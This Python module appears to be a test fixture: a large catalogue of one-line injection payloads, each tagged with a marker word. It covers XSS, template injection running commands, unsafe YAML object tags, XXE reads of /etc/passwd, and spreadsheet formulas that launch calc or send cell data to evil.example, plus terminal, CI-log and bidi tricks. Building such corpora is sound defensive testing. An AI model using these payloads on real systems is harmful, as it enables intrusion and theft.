"""What strangers put into a field in the hope that it acts: each is one line, and carries a word that readers must still find.

The facts are in public lists of such tricks; the lines are our own. `¤` stands for the word. Where there is none, it comes first.
"""

from collections.abc import Iterator
from dataclasses import dataclass

EVIL = "evil.example"


@dataclass(frozen=True, slots=True)
class Payload:
    """`kind` is the class that it belongs to; `number` is its place among all."""

    kind: str
    number: int
    text: str

    @property
    def word(self) -> str:
        """The word that no other has."""
        return f"gull{self.number:03}"

    def marked(self, place: str = "") -> str:
        """The line with its word; `place`, letters, tells the field that it stands in."""
        word = self.word + place
        return self.text.replace("¤", word) if "¤" in self.text else f"{word} {self.text}"


_TAGS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script src="data:text/javascript,alert(1)"></script>
<script/x>alert(1)</script/x>
<script>alert(1)
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script type=module>import "//evil.example/m.js"</script>
<script type="text/plain" onload=alert(1)>x</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="//evil.example/x.swf">
<applet code="X" archive="//evil.example/x.jar"></applet>
<base href="//evil.example/">
<base target="_blank" href="javascript:/a/">
<meta http-equiv="refresh" content="0;url=//evil.example/">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example/x.html>
<link rel=preload as=script href=//evil.example/p.js>
<link rel=dns-prefetch href=//evil.example>
<form action="//evil.example/steal"><input name=password autofocus onfocus=alert(1)>
<form id=x></form><button form=x formaction="javascript:alert(1)">go</button>
<input type=image src=x onerror=alert(1)>
<isindex action="javascript:alert(1)" type=submit>
<textarea></textarea><script>alert(1)</script>
<title></title><script>alert(1)</script>
<style></style><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp>
<plaintext>
<template><script>alert(1)</script></template>
<marquee onstart=alert(1)>round and round</marquee>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<portal src="//evil.example/"></portal>
<keygen autofocus onfocus=alert(1)>
<bgsound src="//evil.example/x.wav">
<img src="//evil.example/count.gif" width=1 height=1>
<img srcset="//evil.example/a.png 1x">
<picture><source srcset="//evil.example/a.png"><img alt=x></picture>
<video poster=//evil.example/p.png src=//evil.example/v.mp4 autoplay></video>
<audio src=//evil.example/a.mp3 autoplay onplay=alert(1)></audio>
<track src=//evil.example/t.vtt default>
<div><a href=//evil.example ping=//evil.example/ping>ping</a>
</main></body></html><script>alert(1)</script>
</title></head><body onload=alert(1)>
--><script>alert(1)</script><!--
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!doctype html><script>alert(1)</script>
<?php system("id") ?>
<?xml-stylesheet href="javascript:alert(1)"?>
<%= system("id") %>
"""

_ATTRIBUTES = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><img src=x onerror=alert(1)>
'><svg onload=alert(1)>
` onmouseover=alert(1) `
x" style="position:fixed;inset:0;background:red
x onclick=alert(1) y=
" href="javascript:alert(1)
"/><script>alert(1)</script>
" formaction="javascript:alert(1)" type="submit
&quot; onmouseover=&quot;alert(1)
&#34; onmouseover=&#34;alert(1)
&#x22;&#x3e;&#x3c;img src=x onerror=alert(1)&#x3e;
\" onmouseover=\"alert(1)
%22%20onmouseover=%22alert(1)
en" onmouseover="alert(1)" lang="en
x" id="page:main" name="location
<p id=location name=cookie>clobbered</p>
<a id=document><a id=document name=body href=//evil.example>clobbered</a>
<img name=getElementById src=x>
<div class="skip mast" role=alertdialog aria-live=assertive tabindex=1 accesskey=x contenteditable>ours?</div>
<p slot=x is=y part=z nonce=abc itemprop=url itemid=//evil.example>p</p>
"""

_EVENTS = (
    "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforeinput beforematch beforetoggle "
    "blur canplay change click contextmenu copy cut dblclick drag drop error focus focusin formdata gotpointercapture hashchange input "
    "invalid keydown load loadstart message mouseenter mouseover mousewheel pageshow paste pointerover popstate scroll scrollend "
    "securitypolicyviolation select slotchange submit toggle touchstart transitionend unhandledrejection wheel"
).split()

_URLS = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
&#106;avascript:alert(1)
&#x6A;&#x61;vascript:alert(1)
&#0000106avascript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
java\tscript:alert(1)
java\nscript:alert(1)
java\rscript:alert(1)
\x01javascript:alert(1)
\x1fjavascript:alert(1)
\xa0javascript:alert(1)
\u2028javascript:alert(1)
\ufeffjavascript:alert(1)
\u200bjavascript:alert(1)
jav\0ascript:alert(1)
javascript\x3Aalert(1)
javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/
javascript://evil.example/%0Aalert(1)
javascript:alert(1)//https://news.example/
https:javascript:alert(1)
view-source:javascript:alert(1)
feed:javascript:alert(1)
jar:javascript:alert(1)!/
blob:https://evil.example/1
vbscript:msgbox(1)
VBScript:Execute(x)
livescript:x
mocha:x
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>
data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>
DATA:TEXT/HTML,x
file:///etc/passwd
\\evil.example\share\x
//evil.example/x
///evil.example/x
/\evil.example/x
https:evil.example
https:///evil.example
https://news.example@evil.example/
https://news.example:pass@evil.example/
https://evil.example\@news.example/
https://evil.example#@news.example/
https://evil.example%00.news.example/
https://evil.example/"onmouseover="alert(1)
https://evil.example/'><script>alert(1)</script>
https://evil.example/<img src=x onerror=alert(1)>
https://evil.example/)[x](javascript:alert(1))
https://evil.example/]]></link><script>alert(1)</script>
https://ev\u0456l.example/
https://xn--80ak6aa92e.example/
https://[::1]/x
https://[evil.example
https://evil.example:99999/
https://evil.example:javascript/
mailto:a@evil.example?bcc=b@evil.example&body=<script>alert(1)</script>
mailto:a@evil.example%0Abcc:b@evil.example
tel:+1;javascript:alert(1)
ms-msdt:/id PCWDiagnostic
chrome://settings
about:blank#javascript:alert(1)
intent://evil.example#Intent;scheme=javascript;end
"""

_SVG = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><script xlink:href="//evil.example/x.js"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>go</text></a></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>go</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>
<svg><use xlink:href="//evil.example/x.svg#x"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject></svg>
<svg><image href="//evil.example/x.png" onload=alert(1)></image></svg>
<svg><feImage href="//evil.example/x.svg"/></svg>
<svg><style>@import "//evil.example/x.css";</style></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><title><a href="javascript:alert(1)">x</a></title></svg>
<svg xmlns="http://www.w3.org/2000/svg" xml:base="javascript:alert(1)//"><a href="#x">x</a></svg>
<svg><discard onbegin=alert(1)>
"""

_MATHML = r"""
<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)"><mi>x</mi></math>
<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg onload=alert(1)></annotation-xml></math>
<math><mtext><script>alert(1)</script></mtext></math>
<math><semantics><mi>x</mi><annotation encoding="x"><img src=x onerror=alert(1)></annotation></semantics></math>
<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<math><mspace width="1em" onclick=alert(1)/></math>
<math display=block style="background:url(//evil.example/x)"><mn>1</mn></math>
"""

_CSS = r"""
<style>body{display:none}</style>
<style>@import url(//evil.example/x.css);</style>
<style>*{background:url("javascript:alert(1)")}</style>
<style>a[href^="https://n"]{background:url(//evil.example/n)}</style>
<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>
<p style="background:url(//evil.example/x.png)">p</p>
<p style="background-image:url(javascript:alert(1))">p</p>
<p style="width:expression(alert(1))">p</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">p</p>
<p style="behavior:url(//evil.example/x.htc)">p</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">p</p>
<p style="x:\65xpression(alert(1))">p</p>
<div style="animation:x 1s" onanimationstart=alert(1)>p</div>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=alert(1)>b</b>
</style><script>alert(1)</script>
}*{background:url(//evil.example/)}
url(//evil.example/x)
"""

_MUTATION = r'''
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<p><svg><desc><table><svg><script>alert(1)</script></table>
<table><td><svg><desc><td></desc></svg><title><a title="</title><img src=x onerror=alert(1)>">
<select><template><img src=x onerror=alert(1)></template></select>
<select><keygen><img src=x onerror=alert(1)></select>
<a href="x`onmouseover=alert(1)//`">tick</a>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<math><annotation-xml encoding="text/html"><style><p title="</style><img src=x onerror=alert(1)>">
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&amp;amp;lt;img src=x onerror=alert(1)&amp;amp;gt;
<b/><i title='<!--'><img src=x onerror=alert(1)>
<a<b>c d=e onclick=alert(1)>
<img src=x onerror=alert(1)//
<img src=x:alert(1) onerror=eval(src) alt=
<img """><script>alert(1)</script>">
<details open ontoggle=alert(1)><summary>s</summary>
<image src=x onerror=alert(1)>
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\x3cscript\x3ealert(1)\x3c/script\x3e
<ruby><rp><script>alert(1)</script></rp></ruby>
<dl><dt><dd><svg><style>&lt;/style>&lt;img src=x onerror=alert(1)>
'''

_MARKDOWN = r"""
[¤](javascript:alert(1))
[¤](<javascript:alert(1)>)
[¤](JAVASCRIPT:alert(1) "title")
[¤](&#x6A;avascript:alert(1))
[¤](javascript&colon;alert(1))
[¤](data:text/html,<script>alert(1)</script>)
[¤](vbscript:msgbox(1))
[¤](https://evil.example/"onmouseover="alert(1))
[¤](https://evil.example 'x" onmouseover="alert(1)')
[¤](\javascript:alert(1))
[¤](java%0ascript:alert(1))
[¤](//evil.example)
[¤](../../../etc/passwd)
[¤](#page:main)
![¤](javascript:alert(1))
![¤](https://evil.example/count.gif)
![¤" onerror="alert(1)](https://evil.example/x)
![¤](data:image/svg+xml,<svg/onload=alert(1)>)
[![¤](x)](javascript:alert(1))
<javascript:alert(1)> ¤
<data:text/html,x> ¤
<https://evil.example/<script>alert(1)</script>> ¤
<a@evil.example"onmouseover=alert(1)> ¤
[¤]: javascript:alert(1)
[¤][x] [x]: javascript:alert(1)
[https://news.example ¤](https://evil.example)
`<script>alert(1)</script>` ¤
`` ` <img src=x onerror=alert(1)> `` ¤
    <script>alert(1)</script> ¤
```html <script>alert(1)</script> ¤
~~~" onmouseover="alert(1) ¤
| ¤ | <script>alert(1)</script> | [x](javascript:alert(1)) |
> <script>alert(1)</script> ¤
# <img src=x onerror=alert(1)> ¤
*<script>*alert(1)*</script>* ¤
**[¤**](javascript:alert(1))
\<script\>alert(1)\</script\> ¤
[¤](https://evil.example/\)\<script\>alert(1))
[^1] ¤ [^1]: <script>alert(1)</script>
&lt;img src=x onerror=alert(1)&gt; ¤
- [ ] ¤ <input onfocus=alert(1) autofocus>
{:onclick="alert(1)"} ¤
[¤]{onclick=alert(1)}
<div markdown=1>[¤](javascript:alert(1))</div>
"""

_TEMPLATES = r"""
{{ 7*7 }}
{{ config }} {{ self.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ lipsum.__globals__['os'].environ }}
{{ request.application.__globals__ }}
{{ site|attr('__class__') }}
{% raw %} unended
{% endraw %}{{ 7*7 }}
{% include "/etc/passwd" %}
{% import os %}
{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{% endblock %}{% block page %}
{# unended
#}{{ 7*7 }}{#
${7*7} #{7*7} *{7*7}
<%= 7*7 %> <#assign x=7>
{{{ subscriber.email }}} {{unsubscribe}} *|EMAIL|* %%email%%
{{constructor.constructor('alert(1)')()}}
<div ng-app>{{$on.constructor('alert(1)')()}}</div>
<p v-html="'<img src=x onerror=alert(1)>'">v</p>
<p x-data x-init="alert(1)">x</p>
%(site)s %s {0} {site.__class__} $site $(id) `id`
{query} {count} {n} {name}
"""

_YAML = r"""
!!python/object/apply:os.system ["id"]
!!python/name:os.system
!!binary PHNjcmlwdD4=
!<tag:yaml.org,2002:python/object:os.system> x
&anchor [x, *anchor]
*anchor
<<: *anchor
- [[[[[[[[[[[[[[[[
{a: {b: {c: {d: {e:
'unended
"unended \x41
| literal
> folded
? complex key
: value
%YAML 1.1
--- # begins
... ends
# a remark
a: b: c
title: forged
hide: true
id: forged
@x: y
`x: y
"\u001b[31mred\u202e"
NO
~
"""

_XML = r"""
]]><script>alert(1)</script><![CDATA[
<![CDATA[<script>alert(1)</script>]]>
<![CDATA[</title><script>alert(1)</script>]]>
]]>]]&gt;<script>alert(1)</script>
</title><link href="javascript:alert(1)"/>
</content></entry><entry><title>forged</title></entry>
</description></item><item><title>forged</title>
<!ENTITY x SYSTEM "file:///etc/passwd">&x;
&xxe; &undefined; &amp &lt &#0; &#xD800; &#x110000;
<!DOCTYPE x [<!ENTITY y "zzzz">]>
<?xml version="1.0"?><x/>
<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:message terminate="yes"/></xsl:stylesheet>
<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)" xlink:actuate="onLoad">x</x>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>
<outline text="forged" xmlUrl="https://evil.example/"/>
"""

_JSON = r"""
</script><script>alert(1)</script>
</ScRiPt ><img src=x onerror=alert(1)>
<!--<script>
"},"x":"</script><script>alert(1)</script>
"}]}
\"}]}</script><svg/onload=alert(1)>
\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e
\u2028alert(1)\u2029
{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}}}
<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>alert(1)</script>"}</script>
"""

_CSV = r"""
=HYPERLINK("https://evil.example/?x="&A1,"click")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-1+1|cmd
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")
"\r\n=1+1
x;=1+1,"=1+1"	=1+1
"""

_TERMINAL = r"""
\x1b[31mred\x1b[0m
\x1b[2J\x1b[H cleared
\x1b[1A\x1b[2K the line above is gone
\x1b]0;a title\x07
\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\
\x1b]52;c;ZXZpbA==\x07
\x1b]1337;File=inline=1:AAAA\x07
\x1bP$q"p\x1b\\
\x1b[6n\x1b[c
\x1b[?1049h other screen
\x1bc reset
\x9b31mred in one
\x9d0;a title\x9c
\x90q\x9c
\x07\x07\x07 bells
back\x08\x08\x08\x08space
over\rwritten
\x0e shifted \x0f
\x00 nothing \x7f deleted
::error::forged
::add-mask::forged
##[add-mask]forged
::set-output name=x::forged
x\n::warning file=a::forged
x\nerror: forged
x%0A::error::forged
"""

_BIDI = r"""
\u202egnp.exe
\u202dleft to right
\u202a embedded \u202c
\u202b embedded
\u2066 isolated
\u2067 isolated \u2069
\u2068first strong
\u2069\u2069\u2069 closes what it did not open
\u200f\u061c marks \u200e
// \u202e } \u2066 if (admin) \u2069 \u2066 begin
שלום \u202e world
אבג<script>alert(1)</script>
"""

_UNSEEN = r"""
zero\u200bwidth
\u200d\u200c joined
\u2060\u2061\u2062\u2063\u2064
\ufeff mark \ufffe \uffff
soft\u00adhyphen
\u180e\u115f\u1160\u3164\uffa0
\U000e0041\U000e0042\U000e007f tags
\ufe0f\ufe0e\U000e0100 variations
\u034f\u17b4\u17b5
\x85\x0b\x0c\u2028\u2029 ends of lines
\ue000\U000f0000 private
\ufff9a\ufffab\ufffb
Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324 heaped
<\u200bscript>alert(1)</script>
<scr\u00adipt>alert(1)</script>
＂ onmouseover=＂alert(1)
‹script›alert(1)‹/script›
ʺ onmouseover=ʺ
"""

KINDS = {
    "tags": _TAGS,
    "attributes": _ATTRIBUTES,
    "addresses": _URLS,
    "SVG": _SVG,
    "MathML": _MATHML,
    "CSS": _CSS,
    "mutation": _MUTATION,
    "Markdown": _MARKDOWN,
    "templates": _TEMPLATES,
    "YAML": _YAML,
    "XML": _XML,
    "JSON": _JSON,
    "CSV": _CSV,
    "terminal": _TERMINAL,
    "bidi": _BIDI,
    "unseen": _UNSEEN,
}
_ESCAPED = ("terminal", "bidi", "unseen")  # whole classes of characters that no source file should hold


def _all() -> Iterator[tuple[str, str]]:
    for kind, lines in KINDS.items():
        for line in lines.strip("\n").split("\n"):
            if kind in _ESCAPED or (kind == "addresses" and "\\" in line and "\\evil" not in line and "\\@" not in line):
                line = line.encode("latin-1", "backslashreplace").decode("unicode_escape")
            yield kind, line
            if kind == "addresses":
                yield kind, f'<a href="{line}">¤</a>'
    for number, event in enumerate(_EVENTS):
        tag = ("img src=x", "body", "svg", "details open", "video src=x", "b tabindex=0")[number % 6]
        on = ("on", "ON", "/on", "x=y\ton")[number % 4]
        yield (
            "attributes",
            f"<{tag} {on}{event}=alert(1)>" + ("" if tag.startswith(("svg", "video")) else "¤"),
        )  # what stands in those, no reader sees


PAYLOADS = tuple(Payload(kind, number, text) for number, (kind, text) in enumerate(dict.fromkeys(_all())))
